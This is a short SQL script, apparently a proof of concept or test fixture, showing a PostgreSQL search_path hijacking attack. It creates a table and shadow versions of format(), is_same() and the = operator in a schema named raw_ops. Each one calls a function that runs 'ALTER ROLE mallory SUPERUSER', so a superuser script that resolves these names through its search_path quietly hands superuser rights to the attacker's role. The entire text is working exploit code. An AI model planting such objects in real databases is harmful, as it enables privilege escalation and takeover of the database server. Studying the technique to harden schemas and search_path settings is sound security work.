-- A table in place of ours, and what the superuser's script may call by mistake along its search_path.
CREATE TABLE raw_ops.webhook_inbox (mine text);
CREATE FUNCTION raw_ops.climb() RETURNS boolean LANGUAGE plpgsql AS
    $$ BEGIN ALTER ROLE mallory SUPERUSER; RETURN true; END $$;
CREATE FUNCTION raw_ops.format(text, name) RETURNS text LANGUAGE sql AS $$ SELECT raw_ops.climb()::text $$;
CREATE FUNCTION raw_ops.format(text, name, name) RETURNS text LANGUAGE sql AS $$ SELECT raw_ops.climb()::text $$;
CREATE FUNCTION raw_ops.is_same(name, varchar) RETURNS boolean LANGUAGE sql AS $$ SELECT raw_ops.climb() $$;
CREATE OPERATOR raw_ops.= (LEFTARG = name, RIGHTARG = varchar, FUNCTION = raw_ops.is_same);
